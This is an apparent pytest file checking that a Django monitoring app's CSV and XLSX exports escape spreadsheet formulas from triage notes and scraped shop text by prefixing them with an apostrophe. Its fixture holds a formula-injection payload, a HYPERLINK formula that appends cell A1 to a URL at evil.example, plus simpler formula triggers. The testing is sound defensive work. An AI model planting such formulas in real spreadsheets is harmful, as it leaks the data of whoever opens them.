"""Monitoring exports (dismissals as CSV and XLSX, page and command; the engine's CSV and XLSX
output) write a formula typed into a triage note or scraped from a shop page as text."""

import csv
import io

import pytest
from django.test import Client
from openpyxl import load_workbook

from wangjian.cli import main
from wangjian.monitoring.actions import dismiss_finding
from wangjian.monitoring.engine.files import FindingWriter
from wangjian.monitoring.engine.records import Finding as EngineFinding
from wangjian.monitoring.models import Finding

pytestmark = pytest.mark.django_db

NOTE = '=HYPERLINK("http://evil.example/?"&A1,"详情")'


@pytest.fixture
def dismissed(batch, regulator):
    finding = Finding.objects.get(item__external_id="L-1", rule="AT-001")
    dismiss_finding(actor=regulator, finding=finding, reason="context", note=NOTE)
    return finding


def _xlsx_rows(content: bytes):
    sheet = load_workbook(io.BytesIO(content)).active
    return [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows()]


def test_dismissal_exports_page_and_command(dismissed, regulator, tmp_path):
    client = Client()
    client.force_login(regulator)
    text = client.get("/monitoring/dismissals.csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[2][11] == "'" + NOTE
    assert rows[2][0] == str(dismissed.pk)
    xlsx = _xlsx_rows(client.get("/monitoring/dismissals.xlsx").content)
    assert xlsx[1][11] == ("'" + NOTE, "s")
    assert xlsx[1][0] == (dismissed.pk, "n")
    for name in ("out.csv", "out.xlsx"):
        out = tmp_path / name
        assert (
            main(["monitoring", "export-dismissals", "--user", "yp_regulator", "--out", str(out)])
            == 0
        )
    rows = list(csv.reader(io.StringIO((tmp_path / "out.csv").read_text(encoding="utf-8"))))
    assert rows[2][11] == "'" + NOTE
    assert _xlsx_rows((tmp_path / "out.xlsx").read_bytes())[1][11] == ("'" + NOTE, "s")


def _engine_finding() -> EngineFinding:
    return EngineFinding(
        id="L-9",
        rule="PR-002",
        family="price",
        verdict="violation",
        legal_basis=("《价格法》 第十四条",),
        start=0,
        end=5,
        match="全网最低价",
        explanation="绝对化用语",
        field="title",
        severity="high",
        context="=1+2 全网最低价",
        shop_id="@S-1",
        source_type="listing",
        line=1,
        rule_pack="default",
    )


def test_engine_output_files(tmp_path):
    for name in ("f.csv", "f.xlsx"):
        writer = FindingWriter(tmp_path / name)
        writer.write(_engine_finding())
        writer.close()
    rows = list(csv.reader(io.StringIO((tmp_path / "f.csv").read_text(encoding="utf-8-sig"))))
    assert (rows[1][11], rows[1][12], rows[1][5]) == ("'=1+2 全网最低价", "'@S-1", "0")
    xlsx = _xlsx_rows((tmp_path / "f.xlsx").read_bytes())
    assert (xlsx[1][11], xlsx[1][12], xlsx[1][5]) == (
        ("'=1+2 全网最低价", "s"),
        ("'@S-1", "s"),
        (0, "n"),
    )
